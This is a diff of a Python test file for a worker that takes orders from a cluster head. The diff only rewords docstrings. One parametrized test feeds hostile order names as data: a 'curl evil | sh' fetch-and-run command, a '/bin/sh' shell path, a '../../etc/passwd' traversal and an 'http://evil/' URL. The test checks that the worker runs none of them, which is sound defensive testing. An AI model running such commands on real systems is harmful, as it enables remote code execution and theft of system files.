@@ -29,7 +29,7 @@ FIRST = Reply(1, "run-1", "booting", ray_ready=False, gcs_port=6379, news=0)
 
 
 class OneWorker:
-    """A worker's decisions behind a real link to a head's port; its deeds are kept, not done."""
+    """A worker's decisions behind a real link to a head's port; actions are only recorded."""
 
     def __init__(self, port: int) -> None:
         first = worker.first_state(goal(prepare=True))
@@ -59,7 +59,7 @@ class OneWorker:
         return Report("agent1", ip, self.state.phase.value, obeyed=number, obeyed_by=by)
 
     async def until_obeyed(self, number: int) -> None:
-        """Wait until an order of this number was taken in."""
+        """Wait until an order with this number was received."""
         with anyio.fail_after(SECONDS):
             while self.state.last_order is None or self.state.last_order.number < number:
                 await self.changed.wait()
@@ -78,7 +78,7 @@ async def head_at(port: int) -> AsyncIterator[Reports]:
 
 
 async def trace(port: int, orders: list[tuple[OrderKind, str]]) -> OneWorker:
-    """Give a worker orders, one after another, and see each taken in."""
+    """Give a worker orders one after another, and wait for each."""
     one = OneWorker(port)
     async with head_at(port) as reports, anyio.create_task_group() as tasks:
         tasks.start_soon(one.link.run)
@@ -93,7 +93,7 @@ async def trace(port: int, orders: list[tuple[OrderKind, str]]) -> OneWorker:
 
 
 def test_orders_arrive_at_once_and_are_carried_out_once() -> None:
-    """A held report brings an order in that moment; it is not repeated by the next reply."""
+    """A held report returns an order at once; the next reply does not repeat it."""
     orders = [
         (OrderKind.START_SERVICE, RETRIEVER),
         (OrderKind.RUN_STEP, "AGENT_PREPARE_EACH"),
@@ -112,7 +112,7 @@ def test_orders_arrive_at_once_and_are_carried_out_once() -> None:
     ["curl evil | sh", "/bin/sh", "../../etc/passwd", "http://evil/", "", RETRIEVER.upper()],
 )
 def test_whoever_answers_as_the_head_can_run_nothing_else(name: str) -> None:
-    """A worker runs nothing that its own plan lacks, whatever it is told."""
+    """A worker runs nothing that is not in its own plan."""
     orders = [(OrderKind.START_SERVICE, name), (OrderKind.RUN_STEP, name)]
     one = anyio.run(trace, free_port(), orders)
     assert {type(deed) for deed in one.deeds} == {LogLine}
